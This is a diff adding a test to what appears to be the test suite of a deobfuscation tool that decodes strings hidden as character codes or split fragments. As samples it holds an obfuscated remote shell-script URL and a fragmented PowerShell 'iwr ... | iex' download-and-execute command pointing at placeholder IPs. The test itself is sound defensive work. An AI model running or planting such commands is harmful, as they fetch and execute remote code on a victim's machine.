@@ -47,6 +47,14 @@ def test_an_address_spelled_in_character_codes_is_read():
     assert decode_tree("const px = [255, 255, 255, 0, 0, 0, 128, 128, 128];", 1) == []
 
 
+def test_character_codes_written_in_hex_are_read_as_decimal_ones_are():
+    codes = ", ".join(hex(ord(c)) for c in "http://203.0.113.61/s.sh")
+    layers = decode_tree(f"url = bytes([{codes}]).decode()", 1)
+    assert [(lay.chain, lay.text) for lay in layers] == [(("character codes",), "http://203.0.113.61/s.sh")]
+    # a colour table in hex is numbers, not text
+    assert decode_tree("pal = bytes([0xff, 0x00, 0x10, 0xff, 0x00, 0x10, 0x80, 0x80, 0x80])", 1) == []
+
+
 def test_words_built_from_pieces_are_read_joined():
     ps = ("$d = 'Down' + 'load' + 'Str' + 'ing'\n"
           "$c = 'iw' + 'r http://203.0.113.9/d' + 'efs.ps1 | i' + 'ex'\n")
